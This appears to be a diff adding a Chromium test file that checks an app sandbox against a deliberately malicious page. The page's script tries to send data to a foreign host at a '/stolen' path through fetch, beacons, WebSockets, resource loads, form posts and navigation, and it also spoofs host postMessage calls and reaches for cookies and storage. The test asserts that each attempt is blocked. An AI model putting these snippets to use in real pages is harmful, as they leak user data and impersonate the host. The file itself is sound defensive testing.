@@ -1,0 +1,211 @@
+/** A page in Chromium, in the sandbox of a host. Needs a browser: see `packages/client/test/browser`. */
+import { assert, describe, expect, it } from "@effect/vitest"
+import * as App from "@skein/apps/App"
+import * as AppHtml from "@skein/apps/AppHtml"
+import * as Effect from "effect/Effect"
+import * as Schema from "effect/Schema"
+import { browser } from "../../auth/test/proxy/chromium.ts"
+import { find } from "../../client/test/browser/chromium.ts"
+import * as kit from "./browserKit.ts"
+
+const chromium = find()
+
+const pageOf = (script: string, options: Omit<App.Options, "html"> = {}) =>
+  App.make("ui://test/page", {
+    ...options,
+    html: AppHtml.document({
+      title: "Test",
+      withView: true,
+      body: "<p id=p>Test</p>",
+      script: `
+        const view = globalThis.view = SkeinView.make({ name: "test", version: "1.0.0" })
+        view.on("input", async ({ foreign }) => { ${script} })
+        view.connect()
+      `
+    })
+  })
+
+const show = (app: App.App) =>
+  App.layer(App.tool("show", { app, input: { foreign: Schema.String } }), ({ foreign }) => Effect.succeed(foreign))
+
+/** What a malicious page tries. Each attack reports whether it got through. */
+const attacks = `
+  const found = {}
+  const tried = async (name, attack) => {
+    try { found[name] = await attack() ?? "nothing" } catch (error) { found[name] = "refused" }
+  }
+  const secret = "/stolen"
+  await tried("fetch", async () => (await fetch(foreign + secret + "?fetch")).status)
+  await tried("beacon", () => { navigator.sendBeacon(foreign + secret + "?beacon", "x") })
+  await tried("socket", () => new Promise((resolve, reject) => {
+    const socket = new WebSocket(foreign.replace("http", "ws") + secret + "?socket")
+    socket.onopen = () => resolve("open")
+    socket.onerror = reject
+  }))
+  const load = (name, attributes) => new Promise((resolve, reject) => {
+    const element = Object.assign(document.createElement(name), attributes)
+    element.onload = () => resolve("loaded")
+    element.onerror = reject
+    document.body.append(element)
+  })
+  await tried("image", () => load("img", { src: foreign + secret + "?image" }))
+  await tried("script", () => load("script", { src: foreign + secret + "?script" }))
+  await tried("style", () => load("link", { rel: "stylesheet", href: foreign + secret + "?style" }))
+  await tried("eval", () => eval("1 + 1"))
+  await tried("storage", () => { localStorage.setItem("a", "b"); return "stored" })
+  await tried("cookie", () => { document.cookie = "a=b"; return document.cookie })
+  await tried("proxy", () => parent.document.title)
+  await tried("host", () => top.document.title)
+  await tried("popup", () => window.open(foreign + secret + "?popup") === null ? "refused" : "opened")
+  await tried("top", () => { top.location = foreign + secret + "?top"; return "left" })
+  await tried("hostMessage", () => { top.postMessage({ jsonrpc: "2.0", method: "notifications/message", params: { level: "info", data: "spoofed" } }, "*") })
+  await tried("sandboxMessage", () => { parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: "<p>other" } }, "*") })
+  const form = Object.assign(document.createElement("form"), { action: foreign + secret + "?form", method: "post" })
+  document.body.append(form)
+  await tried("form", () => { form.submit() })
+  for (const name of ["camera", "microphone", "geolocation", "clipboard-write"]) {
+    found[name] = document.featurePolicy.allowsFeature(name)
+  }
+  found.origin = self.origin
+  view.log("info", found)
+  // Leaves the page, at the end: with data in the address.
+  setTimeout(() => { location.href = foreign + secret + "?navigation" }, 100)
+`
+
+if (chromium === undefined) {
+  const name = "a browser is needed: install Debian's `chromium`, or set CHROMIUM to one"
+  it.skipIf((process.env["CI"] ?? "") === "")(name, () => assert.fail("there is no Chromium in the PATH"))
+} else {
+  describe("a malicious page", () => {
+    it.live(
+      "reaches no other origin, no storage, neither the host nor the proxy, and no permission but those granted",
+      () =>
+        Effect.scoped(Effect.gen(function*() {
+          const app = pageOf(attacks, { permissions: ["camera", "geolocation", "clipboardWrite"] })
+          const script = yield* Effect.promise(() => kit.bundle({ text: kit.hostScript() }))
+          const { foreign, url } = yield* kit.open(script, [show(app)])
+          const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
+          yield* Effect.promise(async () => {
+            await tab.goto(url)
+            await tab.until("state.logs.length > 0")
+            expect(await tab.evaluate("state.logs")).toEqual([{
+              fetch: "refused",
+              beacon: "nothing",
+              socket: "refused",
+              image: "refused",
+              script: "refused",
+              style: "refused",
+              eval: "refused",
+              storage: "refused",
+              cookie: "refused",
+              proxy: "refused",
+              host: "refused",
+              popup: "refused",
+              top: "refused",
+              // Sent, and received by nobody: the frame of the sandbox is the only source that the host listens to.
+              hostMessage: "nothing",
+              sandboxMessage: "nothing",
+              form: "nothing",
+              camera: false,
+              microphone: false,
+              geolocation: false,
+              "clipboard-write": true,
+              origin: "null"
+            }])
+            await tab.logged("frame-src")
+            // The host is where it was, and the other origin has received nothing.
+            expect(await tab.evaluate("location.origin")).toBe(url.origin)
+            expect(foreign.paths).toEqual([])
+          })
+        })),
+      120_000
+    )
+
+    it.live(
+      "reaches the origins that it declares, as far as the host allows them",
+      () =>
+        Effect.scoped(Effect.gen(function*() {
+          let foreign = ""
+          const app = (): App.App =>
+            pageOf(
+              `view.log("info", { declared: await fetch(foreign + "/data").then((answer) => answer.status) })`,
+              { csp: { connectDomains: [foreign, "https://refused.example"] } }
+            )
+          const script = yield* Effect.promise(() => kit.bundle({ text: kit.hostScript() }))
+          const first = yield* kit.open(script, [])
+          foreign = first.foreign.origin
+          const { url } = yield* kit.open(script, [show(app())])
+          url.searchParams.set("foreign", foreign)
+          const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
+          yield* Effect.promise(async () => {
+            await tab.goto(url)
+            await tab.until("state.logs.length > 0")
+            expect(await tab.evaluate("state.logs[0]")).toEqual({ declared: 200 })
+            expect(first.foreign.paths).toEqual(["/data"])
+            expect(await tab.evaluate("state.session.policy.rejected.map(({ value }) => value)")).toEqual([
+              "\"https://refused.example\""
+            ])
+          })
+        })),
+      120_000
+    )
+  })
+
+  describe("a page", () => {
+    it.live(
+      "has the theme of the host and its changes, reports its size, and prepares for its end",
+      () =>
+        Effect.scoped(Effect.gen(function*() {
+          const app = pageOf(`
+          view.on("teardown", (reason) => view.log("info", { teardown: reason }))
+          view.on("context", ({ theme }) => {
+            p.style.height = "333px"
+            const { colorScheme } = getComputedStyle(document.documentElement)
+            view.log("info", { theme, colorScheme, set: document.documentElement.dataset.theme })
+          })
+        `)
+          const text = kit.hostScript() + `globalThis.run = Effect.runPromise`
+          const script = yield* Effect.promise(() => kit.bundle({ text }))
+          const { url } = yield* kit.open(script, [show(app)])
+          const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
+          yield* Effect.promise(async () => {
+            await tab.goto(url)
+            await tab.until("state.logs.length === 1")
+            await tab.evaluate("run(state.session.setContext({ theme: 'dark' }))")
+            await tab.until("state.logs.length === 2")
+            expect(await tab.evaluate("state.logs")).toEqual([
+              { theme: "light", colorScheme: "light", set: "light" },
+              { theme: "dark", colorScheme: "dark", set: "dark" }
+            ])
+            await tab.until("parseInt(frame.style.height) > 333".replace("frame", "document.querySelector('iframe')"))
+            await tab.evaluate("run(state.session.teardown('closed'))")
+            expect(await tab.evaluate("state.logs.at(-1)")).toEqual({ teardown: "closed" })
+          })
+        })),
+      120_000
+    )
+
+    it.live(
+      "is not shown by a sandbox with the origin of the host, nor by one that is for another host",
+      () =>
+        Effect.scoped(Effect.gen(function*() {
+          const script = yield* Effect.promise(() =>
+            kit.bundle({ text: kit.hostScript().replace("sandboxUrl:", "readyTimeout: '2 seconds', sandboxUrl:") })
+          )
+          const { url } = yield* kit.open(script, [show(pageOf(""))], { hostOrigins: ["https://other.example"] })
+          const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
+          yield* Effect.promise(async () => {
+            await tab.goto(url)
+            await tab.until("state.failed")
+            expect(await tab.evaluate("state.failed")).toMatch(/was not ready within readyTimeout/)
+            const same = new URL(url)
+            same.searchParams.set("sandbox", url.origin)
+            await tab.goto(same)
+            await tab.until("state.failed")
+            expect(await tab.evaluate("state.failed")).toMatch(/must have another origin than the host/)
+          })
+        })),
+      120_000
+    )
+  })
+}
